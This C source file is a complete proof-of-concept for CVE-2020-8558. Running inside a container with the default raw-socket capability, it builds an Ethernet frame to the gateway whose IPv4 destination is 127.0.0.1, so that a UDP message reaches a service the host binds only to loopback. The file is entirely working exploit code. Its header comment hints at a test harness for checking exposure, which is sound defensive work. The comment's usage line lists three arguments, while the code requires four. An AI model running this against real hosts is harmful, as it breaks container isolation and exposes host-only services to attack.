/* The CVE-2020-8558 attack from inside a container: with CAP_NET_RAW (a
 * default capability) send an Ethernet frame to the gateway's MAC whose IPv4
 * destination is 127.0.0.1, carrying a UDP datagram for a port the host
 * serves on its loopback only.
 *
 *   localnet_send GATEWAY_IP PORT MESSAGE
 *
 * Prints "sent" once the frame went out; the host side tells whether it
 * arrived. */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

static unsigned short csum(const void *data, int len) {
    const unsigned short *p = data;
    unsigned long sum = 0;
    for (; len > 1; len -= 2) sum += *p++;
    if (len) sum += *(const unsigned char *)p;
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return (unsigned short)~sum;
}

/* The gateway's MAC from the ARP table (filled by a UDP send to it first). */
static int gateway_mac(const char *gw, unsigned char mac[6]) {
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(9)};
    inet_pton(AF_INET, gw, &a.sin_addr);
    for (int i = 0; i < 50; i++) {
        sendto(s, "x", 1, 0, (struct sockaddr *)&a, sizeof a);
        usleep(20000);
        FILE *f = fopen("/proc/net/arp", "r");
        if (!f) return -1;
        char line[256];
        while (fgets(line, sizeof line, f)) {
            char ip[64], hw[64];
            unsigned flags;
            if (sscanf(line, "%63s %*s %x %63s", ip, &flags, hw) == 3 &&
                strcmp(ip, gw) == 0 && flags != 0) {
                fclose(f);
                return sscanf(hw, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1],
                              &mac[2], &mac[3], &mac[4], &mac[5]) == 6 ? 0 : -1;
            }
        }
        fclose(f);
    }
    return -1;
}

int main(int argc, char **argv) {
    if (argc != 5) {
        fprintf(stderr, "usage: %s GATEWAY DEST PORT MESSAGE\n", argv[0]);
        return 2;
    }
    unsigned char gw_mac[6];
    if (gateway_mac(argv[1], gw_mac) != 0) {
        fprintf(stderr, "no ARP entry for %s\n", argv[1]);
        return 1;
    }
    int s = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP));
    if (s < 0) { perror("socket"); return 1; }
    struct ifreq ifr = {0};
    strcpy(ifr.ifr_name, "eth0");
    if (ioctl(s, SIOCGIFINDEX, &ifr) < 0) { perror("ifindex"); return 1; }
    int ifindex = ifr.ifr_ifindex;
    if (ioctl(s, SIOCGIFHWADDR, &ifr) < 0) { perror("hwaddr"); return 1; }
    unsigned char my_mac[6];
    memcpy(my_mac, ifr.ifr_hwaddr.sa_data, 6);
    int u = socket(AF_INET, SOCK_DGRAM, 0);
    if (ioctl(u, SIOCGIFADDR, &ifr) < 0) { perror("ifaddr"); return 1; }
    struct in_addr my_ip = ((struct sockaddr_in *)&ifr.ifr_addr)->sin_addr;

    const char *msg = argv[4];
    size_t mlen = strlen(msg);
    unsigned char frame[1514] = {0};
    struct ether_header *eth = (void *)frame;
    memcpy(eth->ether_dhost, gw_mac, 6);
    memcpy(eth->ether_shost, my_mac, 6);
    eth->ether_type = htons(ETHERTYPE_IP);
    struct iphdr *ip = (void *)(frame + sizeof *eth);
    ip->version = 4;
    ip->ihl = 5;
    ip->ttl = 64;
    ip->protocol = IPPROTO_UDP;
    ip->saddr = my_ip.s_addr;
    if (inet_pton(AF_INET, argv[2], &ip->daddr) != 1) {
        fprintf(stderr, "bad address %s\n", argv[2]);
        return 2;
    }
    ip->tot_len = htons(sizeof *ip + sizeof(struct udphdr) + mlen);
    ip->check = csum(ip, sizeof *ip);
    struct udphdr *udp = (void *)(ip + 1);
    udp->source = htons(40000);
    udp->dest = htons(atoi(argv[3]));
    udp->len = htons(sizeof *udp + mlen);
    memcpy(udp + 1, msg, mlen);
    udp->check = 0; /* optional for UDP over IPv4 */
    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = ifindex, .sll_halen = 6};
    memcpy(to.sll_addr, gw_mac, 6);
    size_t len = sizeof *eth + ntohs(ip->tot_len);
    for (int i = 0; i < 5; i++) {
        if (sendto(s, frame, len, 0, (struct sockaddr *)&to, sizeof to) < 0) {
            perror("sendto");
            return 1;
        }
        usleep(50000);
    }
    puts("sent");
    return 0;
}
